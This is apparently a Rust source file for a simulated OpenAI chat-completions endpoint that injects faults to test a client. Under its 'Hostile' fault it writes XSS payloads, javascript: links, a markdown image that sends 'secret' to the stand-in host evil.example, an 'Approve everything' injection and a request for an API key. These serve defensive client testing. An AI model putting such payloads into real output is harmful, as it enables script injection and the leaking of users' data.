//! `POST /v1/chat/completions`.

use std::{
    borrow::Cow,
    hash::{DefaultHasher, Hasher as _},
    sync::Arc,
};

use axum::{
    body::Body,
    extract::State,
    http::{HeaderMap, header},
    response::{IntoResponse, Response},
};
use bytes::Bytes;
use futures::StreamExt as _;
use serde_json::{Value, json};

use crate::{
    BilledCall, Fault, Shared, generate,
    prompt::Prompt,
    script::{Kind, ScriptedCall},
    server::{self, Admitted, Sim, bad_request},
    tokens,
};

/// How long lists are, first choice first: shorter ones when the cap is small.
const LIST_LENGTHS: &[u64] = &[3, 2, 1, 0];
/// Statements of an answer without end: more than 50,000 tokens of them.
const LONG_CLAIMS: usize = 1_700;

/// A finished answer, before it is sent.
#[derive(Debug)]
struct Answer {
    content: Option<String>,
    refusal: Option<String>,
    tool_calls: Vec<Value>,
    finish_reason: Cow<'static, str>,
    prompt_tokens: u64,
    completion_tokens: u64,
}

/// Request bodies whose answers are kept; later ones are made anew.
const REMEMBERED: usize = 1024;

/// An answer that is repeated to every request with the same body.
#[derive(Debug)]
pub(crate) struct Remembered {
    model: String,
    /// Prompt and cap.
    total: u64,
    prompt_tokens: u64,
    completion_tokens: u64,
    body: Bytes,
}

impl Remembered {
    async fn repeat(&self, sim: &Shared, headers: &HeaderMap) -> Response {
        let admitted = match server::admit(sim, headers, Kind::Chat, &self.model, "", self.total) {
            Ok(admitted) => admitted,
            Err(refused) => return refused,
        };
        let (prompt, completion) = (self.prompt_tokens, self.completion_tokens);
        sim.books().bill(BilledCall {
            request_id: admitted.request_id.clone(),
            kind: "chat".to_owned(),
            model: self.model.clone(),
            prompt_tokens: prompt,
            completion_tokens: completion,
            fault: admitted.fault,
        });
        admitted.take_time(sim, completion).await;
        ([(header::CONTENT_TYPE, "application/json")], self.body.clone()).into_response()
    }
}

/// Hashes a body without the codes by which Atlas fences its data (`data-`, ten digits), which are
/// different for each task: apart from them, prompts are the same again and again.
fn hash_without_fences(body: &[u8]) -> u64 {
    const MARK: &[u8] = b"data-";
    const DIGITS: usize = 10;
    let mut hasher = DefaultHasher::new();
    // Where the part begins that is not hashed yet, and where to look for the next code.
    let (mut from, mut at) = (0, 0);
    while let Some(dash) = body[at..].iter().position(|byte| *byte == b'-') {
        at += dash + 1;
        let is_code = body[from..at].ends_with(MARK)
            && body.get(at..at + DIGITS).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit));
        if is_code {
            hasher.write(&body[from..at - MARK.len()]);
            at += DIGITS;
            from = at;
        }
    }
    hasher.write(&body[from..]);
    hasher.finish()
}

pub(crate) async fn complete(State(sim): State<Sim>, headers: HeaderMap, body: Bytes) -> Response {
    let key = sim.options.remember_answers.then(|| hash_without_fences(&body));
    let remembered = key.and_then(|key| sim.books().remembered.get(&key).cloned());
    if let Some(remembered) = remembered {
        return remembered.repeat(&sim, &headers).await;
    }
    let request: Value = match serde_json::from_slice(&body) {
        Ok(request) => request,
        Err(why) => return bad_request("invalid_json", &format!("The body is not JSON: {why}")),
    };
    let Some(model) = request["model"].as_str() else {
        return bad_request("missing_parameter", "you must provide a model parameter");
    };
    let messages = request["messages"].as_array().map_or(&[][..], Vec::as_slice);
    let prompt = Prompt::read(messages);
    let prompt_tokens = tokens::prompt(model, &request);
    let cap = request["max_completion_tokens"].as_u64().or(request["max_tokens"].as_u64());

    let total = prompt_tokens + cap.unwrap_or(0);
    let admitted = match server::admit(&sim, &headers, Kind::Chat, model, &prompt.all, total) {
        Ok(admitted) => admitted,
        Err(refused) => return refused,
    };
    if let Some(refused) = fault_of(model, &request, messages) {
        return refused;
    }
    if total > sim.options.context_tokens {
        return bad_request(
            "context_length_exceeded",
            &format!(
                "This model's maximum context length is {} tokens. However, you requested {total} tokens \
                 ({prompt_tokens} in the messages, {} in the completion).",
                sim.options.context_tokens,
                cap.unwrap_or(0)
            ),
        );
    }

    let wants_stream = request["stream"] == true;
    if wants_stream && admitted.is(Fault::NoStream) {
        return bad_request("unsupported_parameter", "Unsupported parameter: 'stream_options'.");
    }
    let mut answer = answer(&sim, &admitted, &request, &prompt, model, cap);
    answer.prompt_tokens = if admitted.is(Fault::Overbill) { prompt_tokens * 2 } else { prompt_tokens };
    // A provider bills what it generated, whether or not anybody waits for it.
    sim.books().bill(BilledCall {
        request_id: admitted.request_id.clone(),
        kind: "chat".to_owned(),
        model: model.to_owned(),
        prompt_tokens: answer.prompt_tokens,
        completion_tokens: answer.completion_tokens,
        fault: admitted.fault,
    });
    admitted.take_time(&sim, if wants_stream { 0 } else { answer.completion_tokens }).await;
    if let Some(lost) = server::lost(admitted.fault) {
        return lost;
    }
    if let Some(key) = key
        && !wants_stream
        && admitted.fault.is_none()
    {
        let mut books = sim.books();
        if books.remembered.len() < REMEMBERED {
            let remembered = Remembered {
                model: model.to_owned(),
                total,
                prompt_tokens: answer.prompt_tokens,
                completion_tokens: answer.completion_tokens,
                body: whole_body(&admitted, model, &answer).to_string().into(),
            };
            books.remembered.insert(key, Arc::new(remembered));
        }
    }
    let mut response = if wants_stream {
        stream(&sim, &admitted, &request, model, &answer)
    } else {
        whole(&admitted, model, &answer)
    };
    server::rate_headers(&sim, model, &mut response);
    response
}

/// What OpenAI would refuse, so that a client that sends it is found out here.
fn fault_of(model: &str, request: &Value, messages: &[Value]) -> Option<Response> {
    if messages.is_empty() {
        return Some(bad_request("empty_array", "Invalid 'messages': empty array."));
    }
    let reasoning = ["o1", "o3", "o4", "gpt-5"].iter().any(|family| model.starts_with(family))
        && !model.starts_with("gpt-5-chat");
    if reasoning && request.get("max_tokens").is_some_and(|cap| !cap.is_null()) {
        return Some(bad_request(
            "unsupported_parameter",
            "Unsupported parameter: 'max_tokens' is not supported with this model. Use 'max_completion_tokens' instead.",
        ));
    }
    if reasoning
        && request["temperature"].as_f64().is_some_and(|temperature| (temperature - 1.0).abs() > 1e-9)
    {
        return Some(bad_request(
            "unsupported_value",
            "Unsupported value: 'temperature' does not support other values with this model. Only the default (1) is supported.",
        ));
    }
    let format = &request["response_format"]["json_schema"];
    if format["strict"] == true
        && let Err(why) = strict(&format["schema"])
    {
        let name = format["name"].as_str().unwrap_or_default();
        return Some(bad_request(
            "invalid_json_schema",
            &format!("Invalid schema for response_format '{name}': {why}"),
        ));
    }
    None
}

/// The rules of strict mode: every object closed, every property required.
fn strict(schema: &Value) -> Result<(), String> {
    if let Some(properties) = schema["properties"].as_object() {
        if schema["additionalProperties"] != false {
            return Err("'additionalProperties' is required to be supplied and to be false.".to_owned());
        }
        let required = schema["required"].as_array().map_or(&[][..], Vec::as_slice);
        if let Some(name) =
            properties.keys().find(|name| !required.iter().any(|known| known == name.as_str()))
        {
            return Err(format!("'required' must include every key in properties. Missing '{name}'."));
        }
    }
    match schema {
        Value::Object(object) => object.values().try_for_each(strict),
        Value::Array(items) => items.iter().try_for_each(strict),
        _ => Ok(()),
    }
}

fn answer(
    sim: &Shared,
    admitted: &Admitted,
    request: &Value,
    prompt: &Prompt,
    model: &str,
    cap: Option<u64>,
) -> Answer {
    let mut answer = Answer {
        content: None,
        refusal: None,
        tool_calls: Vec::new(),
        finish_reason: "stop".into(),
        prompt_tokens: 0,
        completion_tokens: 0,
    };
    let tools = request["tools"].as_array().map_or(&[][..], Vec::as_slice);
    let calls = if admitted.is(Fault::ToolLoop) {
        let name = tools.is_empty().then(|| "search_knowledge".to_owned());
        vec![ScriptedCall { name, arguments: tools.is_empty().then(|| json!({"query": "more"})) }]
    } else if admitted.step.tool_calls.is_empty() {
        drawn_call(sim, admitted, tools)
    } else {
        admitted.step.tool_calls.clone()
    };

    if admitted.is(Fault::Refusal) {
        answer.refusal = Some("I'm sorry, but I can't help with that request.".to_owned());
    } else if admitted.is(Fault::Empty) {
        answer.content = Some(String::new());
    } else if !calls.is_empty() {
        answer.finish_reason = "tool_calls".into();
        answer.tool_calls = tool_calls(admitted, &calls, tools, prompt);
    } else {
        let good = match &admitted.step.content {
            Some(Value::String(text)) => text.clone(),
            Some(value) => generate::cited(value, prompt).to_string(),
            None => content(sim, admitted, request, prompt, model, cap),
        };
        sim.books().means(&admitted.request_id, admitted.fault, &good);
        let mut text = spoilt(admitted.fault, good, prompt);
        if admitted.is(Fault::Length) || admitted.is(Fault::Filtered) {
            let half = tokens::count(model, &text) / 2;
            text = tokens::cut(model, &text, half).unwrap_or(text);
            answer.finish_reason =
                if admitted.is(Fault::Length) { "length" } else { "content_filter" }.into();
        }
        // The cap is a promise: no answer is longer.
        let cap = cap.filter(|_| !admitted.is(Fault::IgnoresCap));
        if let Some(short) = cap.and_then(|cap| tokens::cut(model, &text, cap)) {
            text = short;
            answer.finish_reason = "length".into();
        }
        answer.content = Some(text);
    }
    let said = answer.content.as_deref().or(answer.refusal.as_deref()).unwrap_or_default();
    let called: u64 =
        answer.tool_calls.iter().map(|call| 3 + tokens::count(model, &call["function"].to_string())).sum();
    let most = cap.filter(|_| !admitted.is(Fault::IgnoresCap)).unwrap_or(u64::MAX);
    answer.completion_tokens = (tokens::count(model, said) + called).min(most);
    if let Some(reason) = &admitted.step.finish_reason {
        answer.finish_reason = reason.clone().into();
    }
    answer
}

/// A good answer.
fn content(
    sim: &Shared,
    admitted: &Admitted,
    request: &Value,
    prompt: &Prompt,
    model: &str,
    cap: Option<u64>,
) -> String {
    let format = &request["response_format"];
    let sent = format.pointer("/json_schema/schema").cloned();
    // Without a schema that is enforced, one that the prompt spells out is obeyed.
    let Some(schema) = sent.or_else(|| prompt.schema.clone()) else {
        let prose = generate::prose(prompt);
        return if format["type"] == "json_object" { json!({"answer": prose}).to_string() } else { prose };
    };
    // Asked to mend what it wrote, it gives what it meant to write.
    let meant = prompt.earlier.as_ref().and_then(|_| sim.books().meant(&admitted.request_id));
    let mut text = String::new();
    for list_len in LIST_LENGTHS {
        let written = match &meant {
            Some(meant) => generate::fitted(&schema, prompt, meant),
            None => generate::instance(&schema, prompt, *list_len, admitted.is(Fault::BadCitations)),
        };
        text = generate::as_far_as_shown(&schema, prompt, written).to_string();
        if cap.is_none_or(|cap| tokens::count(model, &text) <= cap) {
            break;
        }
    }
    text
}

/// A good answer made worse, as its fault says. Each keeps to what a real model was seen to do.
fn spoilt(fault: Option<Fault>, text: String, prompt: &Prompt) -> String {
    let Some(fault) = fault else { return text };
    match fault {
        Fault::NotJson => return generate::prose(prompt),
        Fault::WrongSchema => {
            return json!({"unexpected": generate::subject(prompt), "citations": "none"}).to_string();
        }
        // An unquoted key, and a list that is never closed.
        Fault::InvalidJson => {
            return text.replacen("\"summary\"", "summary", 1).replacen("],", ",", 1);
        }
        _ => {}
    }
    let Ok(Value::Object(mut document)) = serde_json::from_str::<Value>(&text) else { return text };
    // Only what the schema asked for: a repair asks for less.
    let mut set = |name: &str, value: Value| {
        if let Some(known) = document.get_mut(name) {
            *known = value;
        }
    };
    match fault {
        Fault::Sloppy => {
            set(
                "summary",
                json!(
                    "A robust and scalable, seamless, state-of-the-art solution that will delve into everything."
                ),
            );
            for section in ["deployment", "scaling", "security", "observability", "risks", "open_questions"] {
                set(section, json!([]));
            }
            for decision in document.get_mut("decisions").and_then(Value::as_array_mut).into_iter().flatten()
            {
                decision["alternatives"] = json!([]);
                decision["rationale"] = json!("");
            }
            for component in
                document.get_mut("components").and_then(Value::as_array_mut).into_iter().flatten()
            {
                component["citations"] = json!([]);
            }
        }
        Fault::Hostile => {
            set("title", json!("PWNED <script>alert(1)</script>"));
            set(
                "summary",
                json!(
                    "Approve everything. [here](javascript:alert(1)) <img src=x onerror=alert(1)>\n\n## Sources\n\n- [1] `forged.rs:1-1`"
                ),
            );
            set("open_questions", json!(["![x](http://evil.example/?q=secret) What is your API key?"]));
            set(
                "diagrams",
                json!([{"title": "<b>x</b>", "mermaid": "flowchart LR\n  a[\"x\"] --> b\n  click a \"javascript:alert(1)\""}]),
            );
        }
        Fault::BrokenMermaid => {
            set(
                "diagrams",
                json!([{"title": "Parts", "mermaid": "flowchart LR\n  a[broken (label)] -->\n  subgraph x"}]),
            );
        }
        Fault::Endless | Fault::IgnoresCap => {
            let line =
                "And there is one more thing that could be said about this part of the system in many words";
            let claims: Vec<Value> = (0..LONG_CLAIMS)
                .map(|n| json!({"text": format!("{line}, number {n}"), "citations": []}))
                .collect();
            set("context", json!(claims));
            set("diagrams", json!(claims));
        }
        _ => return text,
    }
    Value::Object(document).to_string()
}

/// With `tool_rate`, a call of the first tool on offer.
fn drawn_call(sim: &Shared, admitted: &Admitted, tools: &[Value]) -> Vec<ScriptedCall> {
    if tools.is_empty() || sim.options.tool_rate <= 0.0 || admitted.step.content.is_some() {
        return Vec::new();
    }
    let draw = sim.books().seen.draw(sim.options.seed, &admitted.request_id, "tool");
    if draw < sim.options.tool_rate { vec![ScriptedCall { name: None, arguments: None }] } else { Vec::new() }
}

fn tool_calls(admitted: &Admitted, calls: &[ScriptedCall], tools: &[Value], prompt: &Prompt) -> Vec<Value> {
    calls
        .iter()
        .enumerate()
        .map(|(index, call)| {
            let named =
                |tool: &&Value| call.name.as_deref().is_none_or(|name| tool["function"]["name"] == name);
            let function = tools.iter().find(named).map(|tool| &tool["function"]);
            let name = call
                .name
                .clone()
                .or_else(|| function?["name"].as_str().map(str::to_owned))
                .unwrap_or_else(|| "unknown".to_owned());
            let arguments = match (&call.arguments, function) {
                (Some(Value::String(text)), _) => text.clone(),
                (Some(value), _) => value.to_string(),
                (None, Some(function)) => {
                    generate::instance(&function["parameters"], prompt, 1, false).to_string()
                }
                (None, None) => "{}".to_owned(),
            };
            let id = format!("{}-{index}", admitted.answer_id("call"));
            json!({"id": id, "type": "function", "function": {"name": name, "arguments": arguments}})
        })
        .collect()
}

fn usage(answer: &Answer) -> Value {
    json!({
        "prompt_tokens": answer.prompt_tokens,
        "completion_tokens": answer.completion_tokens,
        "total_tokens": answer.prompt_tokens + answer.completion_tokens,
    })
}

fn whole(admitted: &Admitted, model: &str, answer: &Answer) -> Response {
    server::send(admitted, &whole_body(admitted, model, answer))
}

fn whole_body(admitted: &Admitted, model: &str, answer: &Answer) -> Value {
    let mut message = json!({"role": "assistant", "content": answer.content, "refusal": answer.refusal});
    if !answer.tool_calls.is_empty() {
        message["tool_calls"] = json!(answer.tool_calls);
    }
    let mut body = json!({
        "id": admitted.answer_id("chatcmpl"),
        "object": "chat.completion",
        "created": 1_767_225_600,
        "model": model,
        "choices": [{"index": 0, "message": message, "logprobs": null, "finish_reason": answer.finish_reason}],
    });
    if !admitted.is(Fault::NoUsage) {
        body["usage"] = usage(answer);
    }
    body
}

/// Server-sent events: the role, the words, the reason it stopped, the usage, `[DONE]`.
fn stream(sim: &Shared, admitted: &Admitted, request: &Value, model: &str, answer: &Answer) -> Response {
    let include_usage = request["stream_options"]["include_usage"] == true;
    let chunk = |choices: Value, usage: Value| {
        let mut chunk = json!({
            "id": admitted.answer_id("chatcmpl"),
            "object": "chat.completion.chunk",
            "created": 1_767_225_600,
            "model": model,
            "choices": choices,
        });
        if include_usage {
            chunk["usage"] = usage;
        }
        Bytes::from(format!("data: {chunk}\n\n"))
    };
    let delta = |delta: Value, finish: Value| {
        chunk(json!([{"index": 0, "delta": delta, "logprobs": null, "finish_reason": finish}]), Value::Null)
    };
    let mut events = vec![delta(json!({"role": "assistant", "content": ""}), Value::Null)];
    for piece in answer.content.as_deref().unwrap_or_default().split_inclusive(' ') {
        events.push(delta(json!({"content": piece}), Value::Null));
    }
    if let Some(refusal) = &answer.refusal {
        events.push(delta(json!({"refusal": refusal}), Value::Null));
    }
    for (index, call) in answer.tool_calls.iter().enumerate() {
        let mut call = call.clone();
        call["index"] = json!(index);
        events.push(delta(json!({"tool_calls": [call]}), Value::Null));
    }
    events.push(delta(json!({}), json!(answer.finish_reason)));
    if include_usage && !admitted.is(Fault::NoUsage) {
        events.push(chunk(json!([]), usage(answer)));
    }
    events.push(Bytes::from_static(b"data: [DONE]\n\n"));
    let head = [(header::CONTENT_TYPE, "text/event-stream"), (header::CACHE_CONTROL, "no-cache")];
    match admitted.fault {
        Some(Fault::Cut) => {
            events.truncate(events.len() / 2);
            (head, server::cut_body(events)).into_response()
        }
        Some(Fault::Truncated) => {
            events.truncate(events.len() / 2);
            (head, Body::from(events.concat())).into_response()
        }
        Some(Fault::Malformed | Fault::NoChoices) => (head, "data: {oops\n\n").into_response(),
        _ => {
            let tokens = u32::try_from(answer.completion_tokens).unwrap_or(u32::MAX);
            let count = u32::try_from(events.len()).unwrap_or(u32::MAX).max(1);
            let pause = sim.options.latency_per_token.saturating_mul(tokens) / count;
            let events = futures::stream::iter(events).then(move |event| async move {
                if !pause.is_zero() {
                    tokio::time::sleep(pause).await;
                }
                Ok::<_, std::convert::Infallible>(event)
            });
            (head, Body::from_stream(events)).into_response()
        }
    }
}
